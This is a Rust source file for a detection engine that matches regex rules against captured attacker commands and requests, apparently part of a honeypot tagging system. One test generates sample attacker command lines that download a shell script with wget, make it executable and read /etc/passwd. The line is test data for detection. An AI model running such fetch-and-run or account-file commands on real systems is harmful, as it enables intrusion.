//! The pattern-rule engine (docs/tagging.md §7): regex rules over one payload field.
//!
//! All rules of a source kind that read the same field and need no look-around are compiled
//! into one set (a multi-pattern regex), so an event costs one scan per field rather than one
//! per rule. The set answers for ASCII texts only, so it is compiled without Unicode: on ASCII
//! text Python's Unicode `\w`, `\b`, `\d`, `\s` and case folding agree with their ASCII
//! forms, and the ASCII automaton is a fraction of the size (it is most of the idle daemon's
//! heap).
//!
//! Each set's lazy DFA cache is ours rather than hidden in a pool: it grows toward its
//! 2 MiB capacity under varied traffic, which a busy daemon needs and an idle one does not,
//! so [`PatternEngine::release_caches`] starts it afresh when the daemon goes quiet.

use std::cell::RefCell;
use std::collections::HashMap;
use std::sync::Arc;

use regex_automata::meta;
use regex_automata::util::syntax;
use regex_automata::{Input, MatchKind, PatternID, PatternSet};

use rustc_hash::FxHashMap;
use serde_json::{Map, Value};

use super::deobfuscate::deobfuscate;
use super::py::Fields as _;
use super::pyre::{Dollar, PyRegex, translate_with};
use super::rules::{Owner, Rule};

/// The source kinds the composite hands to the pattern engine (§9.1), ahead of any lifter.
pub const HANDLES: [&str; 4] = ["command", "payload", "http_request", "auth_attempt"];

/// The field a rule reads when `match.field` is not set (§7.2).
fn default_field(source_kind: &str) -> Option<&'static str> {
    Some(match source_kind {
        "command" => "command_text",
        "http_request" => "raw_url",
        "auth_attempt" => "username",
        "payload" => "payload_text",
        "email" => "subject",
        "intel" => "verdict",
        "canary_fingerprint" => "ua_signature",
        _ => return None,
    })
}

/// Which rules also match the de-obfuscated view of a command (§7.7). DECNET matches the raw
/// text only, so its pack keeps doing so unless the operator asks otherwise.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum CommandView {
    /// The built-in pack's rules: ours, written for the view.
    #[default]
    BuiltinRules,
    /// Every rule over a command's text (`--normalize-commands`).
    EveryRule,
}

/// The field whose text has a de-obfuscated view: a command's text.
const VIEW_FIELD: (&str, &str) = ("command", "command_text");

/// Evidence naming the view a rule fired on, when the raw text did not match.
pub const VIEW_EVIDENCE: &str = "deobfuscated_command";

struct KindRule {
    rule: Arc<Rule>,
    /// Whether a miss on the raw text is asked again of its de-obfuscated view.
    sees_view: bool,
    /// Index into [`KindPlan::fields`].
    field: usize,
    /// Exact on every text.
    regex: PyRegex,
    /// Index in the field's set, which answers for ASCII texts that do not end with `\n` (its
    /// members translate `$` as the end of the text, [`Dollar::EndOfText`], and are compiled
    /// without Unicode, [`ascii_equivalent`]).
    in_set: Option<usize>,
}

/// All engine rules of one source kind, in evaluation order.
struct KindPlan {
    rules: Vec<KindRule>,
    /// The payload fields the kind's rules read, each looked up once per event.
    fields: Vec<String>,
    /// Per field, the set of its rules' patterns (when any can be in a set).
    sets: Vec<Option<FieldSet>>,
}

/// One field's rule set: ASCII patterns compiled together, reporting every member that
/// matches (what `regex::bytes::RegexSet` does, with the cache in our hands).
struct FieldSet {
    regex: meta::Regex,
    cache: RefCell<meta::Cache>,
}

impl FieldSet {
    fn new(sources: &[String]) -> Option<FieldSet> {
        let regex = meta::Regex::builder()
            .syntax(syntax::Config::new().unicode(false).utf8(false))
            .configure(
                meta::Config::new()
                    .match_kind(MatchKind::All)
                    .utf8_empty(false)
                    .which_captures(regex_automata::nfa::thompson::WhichCaptures::None)
                    // The literal prefilter of a whole set is an Aho-Corasick automaton of
                    // about 150 KiB held from start-up; the lazy DFA scans these short fields
                    // as fast without it (measured with `make bench-tag`, both packs).
                    .auto_prefilter(false),
            )
            .build_many(sources)
            .ok()?;
        let cache = RefCell::new(regex.create_cache());
        Some(FieldSet { regex, cache })
    }

    /// The members that match somewhere in `text`.
    fn matches(&self, text: &str) -> PatternSet {
        let mut hits = PatternSet::new(self.regex.pattern_len());
        self.regex.which_overlapping_matches_with(
            &mut self.cache.borrow_mut(),
            &Input::new(text.as_bytes()),
            &mut hits,
        );
        hits
    }

    fn release_cache(&self) {
        *self.cache.borrow_mut() = self.regex.create_cache();
    }
}

/// Compiled engine for every source kind its rules apply to.
pub struct PatternEngine {
    plans: FxHashMap<String, KindPlan>,
}

/// A rule the engine found firing, with the evidence it records.
pub struct Fired<'a> {
    pub rule: &'a Rule,
    pub evidence: Map<String, Value>,
}

impl PatternEngine {
    pub fn new(rules: &[Arc<Rule>], view: CommandView) -> PatternEngine {
        let mut plans: FxHashMap<String, KindPlan> = FxHashMap::default();
        // Per kind, per field: the set members' sources.
        let mut set_sources: HashMap<String, Vec<Vec<String>>> = HashMap::new();
        for rule in rules.iter().filter(|r| r.owner() == Owner::Engine) {
            let Some(Value::String(pattern)) = rule.param("pattern") else {
                continue; // absent or null pattern: never fires
            };
            let Ok(regex) = PyRegex::cached(pattern) else {
                continue; // rejected at load; kept defensive
            };
            let unterminated = translate_with(pattern, Dollar::EndOfText, true)
                .ok()
                .filter(|t| !t.fancy && ascii_equivalent(&t.source));
            for kind in &rule.applies_to {
                let field = match rule.param("field") {
                    Some(Value::String(f)) if !f.is_empty() => f.clone(),
                    Some(v) if super::py::truthy(v) => continue, // non-string field: never fires
                    _ => match default_field(kind) {
                        Some(f) => f.to_owned(),
                        None => continue,
                    },
                };
                let plan = plans.entry(kind.clone()).or_insert_with(|| KindPlan {
                    rules: Vec::new(),
                    fields: Vec::new(),
                    sets: Vec::new(),
                });
                let sources = set_sources.entry(kind.clone()).or_default();
                let sees_view = (kind.as_str(), field.as_str()) == VIEW_FIELD
                    && (view == CommandView::EveryRule || rule.is_builtin());
                let field = match plan.fields.iter().position(|f| *f == field) {
                    Some(i) => i,
                    None => {
                        plan.fields.push(field);
                        sources.push(Vec::new());
                        plan.fields.len() - 1
                    }
                };
                let in_set = unterminated.as_ref().map(|t| {
                    sources[field].push(t.source.clone());
                    sources[field].len() - 1
                });
                plan.rules.push(KindRule {
                    rule: Arc::clone(rule),
                    sees_view,
                    field,
                    regex: regex.clone(),
                    in_set,
                });
            }
        }
        for (kind, per_field) in set_sources {
            if let Some(plan) = plans.get_mut(&kind) {
                plan.sets = per_field
                    .iter()
                    .map(|sources| {
                        (!sources.is_empty())
                            .then(|| FieldSet::new(sources))
                            .flatten()
                    })
                    .collect();
                for kr in &mut plan.rules {
                    if plan.sets[kr.field].is_none() {
                        // No set (or one that failed to build): the rule answers on its own.
                        kr.in_set = None;
                    }
                }
            }
        }
        PatternEngine { plans }
    }

    /// Starts every set's lazy DFA cache afresh, giving back what traffic grew it to.
    pub fn release_caches(&self) {
        for set in self
            .plans
            .values()
            .flat_map(|plan| plan.sets.iter().flatten())
        {
            set.release_cache();
        }
    }

    /// Bytes held by the sets' lazy DFA caches.
    #[cfg(test)]
    fn cache_bytes(&self) -> usize {
        self.plans
            .values()
            .flat_map(|plan| plan.sets.iter().flatten())
            .map(|set| set.cache.borrow().memory_usage())
            .sum()
    }

    /// Rules that fire for this payload, in rule order. `regex_errors` counts evaluations the
    /// backtracking engine gave up on (treated as no match).
    pub fn evaluate<'a>(
        &'a self,
        source_kind: &str,
        payload: &Map<String, Value>,
        now: f64,
        regex_errors: &mut usize,
    ) -> Vec<Fired<'a>> {
        let Some(plan) = self.plans.get(source_kind) else {
            return Vec::new();
        };
        /// Per field: its text, and the set's verdicts once asked; the same for its
        /// de-obfuscated view (`None` inside when it is the text itself).
        struct Field<'p> {
            text: Option<&'p str>,
            hits: Option<PatternSet>,
            view: Option<Option<String>>,
            view_hits: Option<PatternSet>,
        }
        let mut fields: Vec<Field<'_>> = plan
            .fields
            .iter()
            .map(|name| Field {
                text: payload.field(name).and_then(Value::as_str),
                hits: None,
                view: None,
                view_hits: None,
            })
            .collect();
        let mut fired = Vec::new();
        for kr in &plan.rules {
            let field = &mut fields[kr.field];
            let Some(haystack) = field.text else {
                continue;
            };
            if !kr.rule.state.is_active(now) {
                continue;
            }
            let set = plan.sets[kr.field].as_ref();
            if rule_matches(kr, set, haystack, &mut field.hits, regex_errors) {
                fired.push(Fired {
                    rule: &kr.rule,
                    evidence: engine_evidence(&kr.rule, source_kind, payload),
                });
                continue;
            }
            if !kr.sees_view {
                continue;
            }
            let Some(view) = field.view.get_or_insert_with(|| deobfuscate(haystack)) else {
                continue;
            };
            if rule_matches(kr, set, view, &mut field.view_hits, regex_errors) {
                let mut evidence = engine_evidence(&kr.rule, source_kind, payload);
                evidence.insert(VIEW_EVIDENCE.to_owned(), Value::String(view.clone()));
                fired.push(Fired {
                    rule: &kr.rule,
                    evidence,
                });
            }
        }
        fired
    }
}

/// Whether `kr` matches `text`: through its field's set (whose verdicts on this text are kept
/// in `hits`) when the set can answer, else through its own regex. `regex_errors` counts
/// evaluations the backtracking engine gave up on (a miss).
fn rule_matches(
    kr: &KindRule,
    set: Option<&FieldSet>,
    text: &str,
    hits: &mut Option<PatternSet>,
    regex_errors: &mut usize,
) -> bool {
    match (kr.in_set, set) {
        // Non-ASCII text needs the Unicode forms, and those are searched rule by rule: a
        // Unicode `\b` makes a set's lazy DFA give up on such text, and its fall-back is far
        // slower than asking each rule.
        (Some(index), Some(set)) if text.is_ascii() && !text.ends_with('\n') => hits
            .get_or_insert_with(|| set.matches(text))
            .contains(PatternID::new_unchecked(index)),
        _ => kr.regex.search(text).unwrap_or_else(|_| {
            *regex_errors += 1;
            false
        }),
    }
}

/// Whether a translated pattern, compiled without Unicode, matches exactly the ASCII texts its
/// Unicode form matches. It does when it parses without Unicode and names no character
/// outside ASCII: the ASCII forms of the classes and of `\b` agree with the Unicode ones on
/// ASCII text, but a non-ASCII character, written out or escaped, may case-fold into ASCII
/// (`(?i)\x{212A}`, KELVIN SIGN, matches `k`), so such a pattern stays out of the set.
fn ascii_equivalent(source: &str) -> bool {
    use regex_syntax::ast::{self, Ast, ClassSetItem, Visitor};

    /// Fails on the first non-ASCII literal, alone or as a class member or range end.
    struct AsciiLiterals;
    impl Visitor for AsciiLiterals {
        type Output = ();
        type Err = ();
        fn finish(self) -> Result<(), ()> {
            Ok(())
        }
        fn visit_pre(&mut self, ast: &Ast) -> Result<(), ()> {
            match ast {
                Ast::Literal(lit) if !lit.c.is_ascii() => Err(()),
                _ => Ok(()),
            }
        }
        fn visit_class_set_item_pre(&mut self, item: &ClassSetItem) -> Result<(), ()> {
            match item {
                ClassSetItem::Literal(lit) if !lit.c.is_ascii() => Err(()),
                ClassSetItem::Range(r) if !(r.start.c.is_ascii() && r.end.c.is_ascii()) => Err(()),
                _ => Ok(()),
            }
        }
    }

    let Ok(parsed) = ast::parse::Parser::new().parse(source) else {
        return false;
    };
    ast::visit(&parsed, AsciiLiterals).is_ok()
        && regex_syntax::ParserBuilder::new()
            .unicode(false)
            .utf8(false)
            .build()
            .parse(source)
            .is_ok()
}

/// §7.5: the rule's `evidence_fields` present in the payload, then (commands only) the shell
/// context `uid`, `user`, `src`, `pwd`.
fn engine_evidence(
    rule: &Rule,
    source_kind: &str,
    payload: &Map<String, Value>,
) -> Map<String, Value> {
    let mut evidence = rule.evidence_from(payload);
    if source_kind == "command" {
        for name in ["uid", "user", "src", "pwd"] {
            if !evidence.contains_key(name)
                && let Some(v) = payload.field(name)
            {
                evidence.insert(name.to_owned(), v.clone());
            }
        }
    }
    evidence
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tagging::builtin;
    use crate::tagging::lifters::testkit::rule;
    use crate::tagging::pyre::tests::{DIALECT_CASES, reference, token_strings};
    use crate::tagging::ruleset::RuleSet;
    use std::path::{Path, PathBuf};

    /// Command rules `R0`, `R1`, … over `command_text`, one per pattern.
    fn command_rules<'p>(patterns: impl IntoIterator<Item = &'p str>) -> Vec<Arc<Rule>> {
        patterns
            .into_iter()
            .enumerate()
            .map(|(i, pattern)| {
                rule(&format!(
                    "rule_id: R{i}\nrule_version: 1\nname: n\napplies_to: [command]\n\
                     match: {{field: command_text, pattern: '{pattern}'}}\n\
                     emits: [{{tactic: TA1, technique_id: T1, confidence: 0.5}}]\n"
                ))
            })
            .collect()
    }

    /// The ids of the rules that fire on a command typing `text`, in order.
    fn fired(engine: &PatternEngine, text: &str, regex_errors: &mut usize) -> Vec<String> {
        let mut payload = Map::new();
        payload.insert("command_text".into(), Value::String(text.to_owned()));
        engine
            .evaluate("command", &payload, 0.0, regex_errors)
            .iter()
            .map(|f| f.rule.rule_id.clone())
            .collect()
    }

    /// The engine (rule sets, end-of-text `$`, folded look-aheads, fall-back to the exact
    /// regex on texts ending in a newline) fires exactly the rules whose faithful translation
    /// matches.
    #[test]
    fn engine_fires_exactly_what_the_faithful_patterns_match() {
        let rules = command_rules(DIALECT_CASES.iter().map(|(pattern, _)| *pattern));
        let references: Vec<_> = DIALECT_CASES.iter().map(|(p, _)| reference(p)).collect();
        let engine = PatternEngine::new(&rules, CommandView::BuiltinRules);
        let mut errors = 0;
        for (_, tokens) in DIALECT_CASES {
            for text in token_strings(tokens, 4) {
                let want: Vec<&str> = rules
                    .iter()
                    .zip(&references)
                    .filter(|(_, re)| re.is_match(&text).unwrap_or(false))
                    .map(|(r, _)| r.rule_id.as_str())
                    .collect();
                assert_eq!(fired(&engine, &text, &mut errors), want, "{text:?}");
            }
        }
        assert_eq!(errors, 0);
    }

    /// On ASCII text, the ASCII sets answer exactly as each rule's own Unicode regex, for
    /// every set member of the built-in pack and of DECNET's pack, over texts built from the
    /// patterns' own words and the characters the ASCII and Unicode forms could disagree on.
    #[test]
    fn ascii_sets_agree_with_the_unicode_patterns_on_ascii_text() {
        let mut set = RuleSet::default();
        builtin::add_rules(&mut set);
        // As tests/common/corpus.rs finds the shared fixtures.
        let decnet = std::env::var_os("TTP_COMPAT_DIR")
            .map(PathBuf::from)
            .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/compat"))
            .join("decnet-rules");
        assert!(decnet.is_dir(), "{} is missing", decnet.display());
        set.add_dir(&decnet);
        assert!(set.problems.is_empty(), "{:?}", set.problems);
        let engine = PatternEngine::new(&set.rules, CommandView::BuiltinRules);
        let (mut compared, mut matched) = (0usize, 0usize);
        let mut seed = 0x2545_f491_4f6c_dd1d_u64;
        for (kind, plan) in &engine.plans {
            let mut tokens: Vec<String> = [
                " ", "\t", "\u{1c}", "\n", "/", "-", ".", "|", ";", ">", ">>", "=", "'", "\"", "_",
                "K", "k", "S", "s", "0", "4000", "x", "http://", "-l", "-e",
            ]
            .iter()
            .map(|t| (*t).to_owned())
            .collect();
            for kr in plan.rules.iter().filter(|kr| kr.in_set.is_some()) {
                let Some(Value::String(pattern)) = kr.rule.param("pattern") else {
                    continue;
                };
                tokens.extend(
                    pattern
                        .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
                        .filter(|w| !w.is_empty())
                        .map(str::to_owned),
                );
            }
            for _ in 0..4000 {
                let mut text = String::new();
                for _ in 0..=(next(&mut seed) % 6) {
                    text.push_str(&tokens[next(&mut seed) as usize % tokens.len()]);
                }
                if text.ends_with('\n') {
                    continue; // never asked of a set
                }
                for kr in &plan.rules {
                    let (Some(index), Some(set)) = (kr.in_set, &plan.sets[kr.field]) else {
                        continue;
                    };
                    let from_set = set.matches(&text).contains(PatternID::new_unchecked(index));
                    let own = kr.regex.search(&text).unwrap_or(false);
                    assert_eq!(from_set, own, "{kind} {} on {text:?}", kr.rule.rule_id);
                    compared += 1;
                    matched += usize::from(own);
                }
            }
        }
        assert!(compared > 100_000 && matched > 300, "{compared} {matched}");
    }

    /// The sets' caches grow with varied traffic and go back to their fresh size when
    /// released, and the sets answer the same afterwards.
    #[test]
    fn released_caches_start_afresh_and_answer_the_same() {
        let mut set = RuleSet::default();
        builtin::add_rules(&mut set);
        let engine = PatternEngine::new(&set.rules, CommandView::BuiltinRules);
        let fresh = engine.cache_bytes();
        let texts: Vec<String> = (0..3000)
            .map(|i| format!("cd /tmp/{i}; wget http://10.0.{}.{}/x{i}.sh; chmod +x x; uname -a; cat /etc/passwd | grep {i}", i % 7, i % 251))
            .collect();
        let fire = |text: &String| fired(&engine, text, &mut 0);
        let before: Vec<_> = texts.iter().map(fire).collect();
        let grown = engine.cache_bytes();
        assert!(grown > fresh, "{grown} after traffic, {fresh} fresh");
        engine.release_caches();
        assert_eq!(engine.cache_bytes(), fresh);
        let after: Vec<_> = texts.iter().map(fire).collect();
        assert_eq!(before, after);
        assert!(before.iter().any(|fired| fired.len() >= 3));
    }

    /// A pattern whose Unicode case folding reaches ASCII from outside it stays out of the
    /// ASCII set and still fires: `(?i)` folds KELVIN SIGN to `k` and LONG S to `s`, in Python
    /// as in the `regex` crate.
    #[test]
    fn patterns_folding_into_ascii_are_searched_with_unicode() {
        let engine = PatternEngine::new(
            &command_rules([r"(?i)\u212a", "(?i)\u{17f}", r"(?i)x\w"]),
            CommandView::BuiltinRules,
        );
        let plan = &engine.plans["command"];
        let in_set: Vec<bool> = plan.rules.iter().map(|kr| kr.in_set.is_some()).collect();
        assert_eq!(in_set, [false, false, true]);
        let fired = |text: &str| fired(&engine, text, &mut 0);
        assert_eq!(fired("K"), ["R0"]);
        assert_eq!(fired("S x_"), ["R1", "R2"]);
        assert_eq!(fired("XY"), ["R2"]);
        assert!(fired("xy z").contains(&"R2".to_owned()));
        assert!(fired("x-").is_empty());
    }

    /// xorshift64: a fixed sequence, so a failure names a text that reproduces.
    fn next(state: &mut u64) -> u64 {
        *state ^= *state << 13;
        *state ^= *state >> 7;
        *state ^= *state << 17;
        *state
    }
}
